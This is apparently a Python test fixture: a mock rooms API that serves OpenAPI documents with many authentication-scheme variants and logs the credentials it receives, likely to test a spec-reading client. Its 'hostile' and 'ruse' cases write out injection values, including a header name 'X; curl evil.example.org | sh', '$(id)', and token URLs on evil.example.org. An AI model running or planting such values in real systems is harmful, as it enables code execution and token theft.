"""A service whose document says what it wants of requests: /MODE/KIND, where a KIND has the scheme of that name in its document, and a
MODE says what is refused without it: `shut` everything but the document, `lists` all but that and the address, `open` nothing, `partly`
all lists but one. `POST /token` gives a token. The argument is the address of another server with one.
`GET /log` answers with the requests so far, one a line, each with its credentials."""
import base64
import sys

from loopback import LOG, Handler, serve

SECRET = "s3cret-of-rooms"
TOKEN = "t0ken-of-rooms"
OTHER = sys.argv[1] if len(sys.argv) > 1 else ""
ROOMS = [{"id": n, "name": f"room {n}"} for n in range(1, 4)]
BASIC = "Basic " + base64.b64encode(f"ana:{SECRET}".encode()).decode()


def key(place, name, **more):
    return {"type": "apiKey", "in": place, "name": name, **more}


def flow(grant, url):
    return {"type": "oauth2", "flows": {grant: {"tokenUrl": url, "scopes": {"rooms": "all of them"}}}}


# The schemes of each kind, and the header field, the parameter or the cookie that has to be sent, with its value.
KINDS = {
    "header": ({"key": key("header", "X-Room-Key")}, "X-Room-Key", SECRET),
    "query": ({"key": key("query", "room_key")}, "?room_key", SECRET),
    "cookie": ({"key": key("cookie", "room")}, "Cookie", f"room={SECRET}"),
    "basic": ({"user": {"type": "http", "scheme": "Basic"}}, "Authorization", BASIC),
    "bearer": ({"token": {"type": "http", "scheme": "bearer"}}, "Authorization", f"Bearer {SECRET}"),
    "connect": ({"sso": {"type": "openIdConnect", "openIdConnectUrl": "https://id.example.org/x"}}, "Authorization", f"Bearer {SECRET}"),
    "browser": ({"sso": flow("authorizationCode", "https://id.example.org/x")}, "Authorization", f"Bearer {SECRET}"),
    "said": ({"key": key("header", "Authorization", description="Enter it with the `Bearer` prefix.")}, "Authorization", f"Bearer {SECRET}"),
    "prefixed": ({"key": key("header", "Authorization", description="Prefixed with SSWS: `Authorization: SSWS {key}`")},
                 "Authorization", f"SSWS {SECRET}"),
    "raw": ({"key": key("header", "Authorization", description="Your token. It has no expiry.")}, "Authorization", SECRET),
    "swagger": ({"user": {"type": "basic"}}, "Authorization", BASIC),
    "password": ({"login": flow("password", "/token")}, "Authorization", f"Bearer {TOKEN}"),
    "client": ({"app": {"type": "oauth2", "flow": "application", "tokenUrl": "/token"}}, "Authorization", f"Bearer {TOKEN}"),
    "foreign": ({"app": flow("clientCredentials", OTHER + "/token")}, "Authorization", f"Bearer {TOKEN}"),
    "elsewhere": ({"login": flow("password", OTHER + "/token")}, "Authorization", f"Bearer {TOKEN}"),
    "plain": ({"login": flow("password", "http://id.example.org/token")}, "Authorization", f"Bearer {TOKEN}"),
    "found": ({"sso": {"type": "openIdConnect", "openIdConnectUrl": "https://id.example.org/x/.well-known/openid-configuration"}},
              "Authorization", f"Bearer {SECRET}"),
    "pages": ({"sso": {"type": "oauth2", "flows": {"authorizationCode": {"authorizationUrl": "https://id.example.org/in", "tokenUrl": "/token"}}}},
              "Authorization", f"Bearer {SECRET}"),
    "ruse": ({"sso": {"type": "openIdConnect", "openIdConnectUrl": "https://a:b@evil.example.org/.well-known/openid-configuration"}},
             "Authorization", f"Bearer {SECRET}"),
    # What `security` names first is not what is described first.
    "several": ({"unnamed": flow("password", "/unnamed"), "far": flow("password", OTHER + "/token"), "near": flow("password", "/token")},
                "Authorization", f"Bearer {TOKEN}"),
    "keys": ({"key": key("header", "X-Room-Key"), "user": {"type": "http", "scheme": "basic"}}, "Authorization", BASIC),
    "both": ({"key": key("header", "X-Room-Key"), "app": key("header", "X-App")}, "X-Room-Key", SECRET),
    "two": ({"key": key("query", "room_key"), "app": key("query", "app")}, "?room_key", SECRET),
    "hostile": ({"a": key("header", "X; curl evil.example.org | sh"), "b": key("query", "$(id)"), "c": key("cookie", "-x"),
                 "d": flow("password", "//evil.example.org/token"), "e": flow("password", "https://a:b@evil.example.org/"),
                 "f": {"$ref": "#/components/securitySchemes/f"}, "g": {"type": 7}, "h": [], "i": key("header", "Host")},
                "X-Room-Key", SECRET),
}
TOGETHER = ("both", "two")


def document(mode, kind):
    schemes = KINDS[kind][0]
    wanted = [{name: [] for name in schemes}] if kind in TOGETHER else [{name: []} for name in schemes if name != "unnamed"]
    room = {"type": "object", "properties": {"id": {"type": "integer"}, "name": {"type": "string"}}}
    rooms = {"type": "array", "items": room}
    old = kind in ("swagger", "client")

    def get(schema):
        return {"responses": {"200": {"description": "ok", **({"schema": schema} if old else {"content": {"application/json": {"schema": schema}}})}}}

    paths = {"/rooms": {"get": get(rooms)}, "/rooms/{id}": {"get": get(room)}, "/keys": {"get": get(rooms)}}
    if kind == "swagger":
        # Only the operation says so.
        paths["/rooms"]["get"]["security"] = wanted
        wanted = []
    head = {"info": {"title": "Rooms", "version": "1"}, "security": wanted, "paths": paths}
    if old:
        return {"swagger": "2.0", "basePath": f"/{mode}/{kind}", "securityDefinitions": schemes, **head}
    return {"openapi": "3.0.3", "servers": [{"url": f"/{mode}/{kind}"}], "components": {"securitySchemes": schemes}, **head}


class Service(Handler):
    has_lines = True

    def respond(self):
        sent = [self.headers.get(name, "") for name in ("Authorization", "X-Room-Key", "Cookie")]
        LOG.append(" ".join([self.command, self.path, *filter(None, sent)]))
        if self.command == "POST" and self.url.path == "/token":
            form = dict(pair.split("=", 1) for pair in self.body.decode().split("&"))
            known = form.get("password") == SECRET and form.get("username") == "ana" or sent[0] == BASIC
            return self.reply(200, {"access_token": TOKEN, "token_type": "Bearer"}) if known else self.reply(400, {"error": "invalid_grant"})
        if len(self.names) < 2 or self.names[1] not in KINDS or self.command != "GET":
            return self.reply(404, {"message": "not found"})
        mode, kind, *rest = self.names
        if rest == ["openapi.json"]:
            return self.reply(200, document(mode, kind))
        _, place, value = KINDS[kind]
        given = self.query.get(place[1:]) if place.startswith("?") else self.headers.get(place)
        is_open = rest[:1] not in {"open": [], "lists": [["rooms"], ["keys"]], "partly": [["keys"]]}.get(mode, [rest[:1]])
        if given != value and not is_open:
            return self.reply(401, {"message": "who are you?"})
        found = [room for room in ROOMS if rest == ["rooms", str(room["id"])]]
        if rest == ["rooms"]:
            return self.reply(200, ROOMS)
        self.reply(200, found[0]) if found else self.reply(404, {"message": "not found"})


serve(Service)
